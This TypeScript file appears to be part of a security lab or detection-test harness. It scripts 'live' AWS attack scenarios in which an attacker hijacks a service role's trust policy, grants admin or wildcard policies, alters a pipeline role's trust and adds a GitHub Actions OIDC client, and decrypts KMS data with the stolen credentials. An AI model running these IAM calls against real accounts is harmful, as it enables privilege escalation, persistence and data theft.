import { AwsCallError, type AwsClient, elementOf } from "./aws-client.ts";
import type { LabClient } from "./lab-client.ts";
import type { Scenario } from "./scenario.ts";

/** Makes the service's role trust the attacker, runs `task` with a session of it, and restores the trust policy. */
export async function withServiceRole(
  lab: LabClient,
  task: (session: AwsClient) => Promise<unknown>,
): Promise<void> {
  const { attacker, scope } = lab;
  const RoleName = scope.serviceRoleName;
  const role = await attacker.query("iam", "GetRole", { RoleName });
  const PolicyDocument = decodeURIComponent(elementOf(role, "AssumeRolePolicyDocument"));
  await attacker.query("iam", "UpdateAssumeRolePolicy", {
    RoleName,
    PolicyDocument: JSON.stringify({
      Version: "2012-10-17",
      Statement: {
        Effect: "Allow",
        Principal: { AWS: lab.attackerArn },
        Action: "sts:AssumeRole",
      },
    }),
  });
  try {
    const response = await attacker.query("sts", "AssumeRole", {
      RoleArn: scope.serviceRoleArn,
      RoleSessionName: "mallory",
    });
    await task(lab.clientFor(elementOf(response, "AccessKeyId")));
  } finally {
    await attacker.query("iam", "UpdateAssumeRolePolicy", { RoleName, PolicyDocument });
  }
}

/** Decrypts with stolen credentials. Accepts a denial, because the key policy can restrict use to the VPC. */
export async function decryptElsewhere(lab: LabClient): Promise<void> {
  const KeyId = lab.scope.keyArn;
  const EncryptionContext = { app: "cipherwatch", record: "stolen" };
  await withServiceRole(lab, async (session) => {
    const request = { KeyId, EncryptionContext, KeySpec: "AES_256" };
    try {
      const { CiphertextBlob } = await session.json("kms", "GenerateDataKey", request);
      await session.json("kms", "Decrypt", { KeyId, CiphertextBlob, EncryptionContext });
    } catch (error) {
      if (!(error instanceof AwsCallError) || error.code !== "AccessDeniedException") throw error;
    }
  });
}

const POLICY = JSON.stringify({
  Version: "2012-10-17",
  Statement: { Effect: "Allow", Action: "*", Resource: "*" },
});

export const roleChangeScenarios: readonly Scenario[] = [
  {
    description: "mallory makes the service's role trust her, assumes it, and restores the trust",
    kind: "live",
    run: (lab) => withServiceRole(lab, async () => {}),
  },
  {
    description: "mallory adds a policy to the service's role",
    kind: "live",
    run: ({ attacker, scope }) =>
      attacker.query("iam", "PutRolePolicy", {
        RoleName: scope.serviceRoleName,
        PolicyName: "more",
        PolicyDocument: POLICY,
      }),
  },
  {
    description: "mallory attaches a policy to the execution role",
    kind: "live",
    run: ({ attacker, scope }) =>
      attacker.query("iam", "AttachRolePolicy", {
        RoleName: scope.executionRoleName,
        PolicyArn: "arn:aws:iam::aws:policy/AdministratorAccess",
      }),
  },
  {
    description: "mallory changes the trust of the pipeline's role",
    kind: "live",
    run: async ({ attacker, scope }) => {
      const RoleName = scope.deployRoleName;
      try {
        await attacker.query("iam", "UpdateAssumeRolePolicy", { RoleName, PolicyDocument: POLICY });
      } catch (error) {
        // A deployment without a pipeline has no such role. CloudTrail records the attempt anyway.
        if (!(error instanceof AwsCallError) || error.code !== "NoSuchEntity") throw error;
      }
    },
  },
  {
    description: "mallory adds a client to the OIDC provider of GitHub Actions",
    kind: "live",
    run: ({ attacker, scope }) =>
      attacker.query("iam", "AddClientIDToOpenIDConnectProvider", {
        OpenIDConnectProviderArn: `arn:aws:iam::${scope.accountId}:oidc-provider/token.actions.githubusercontent.com`,
        ClientID: "mallory",
      }),
  },
];
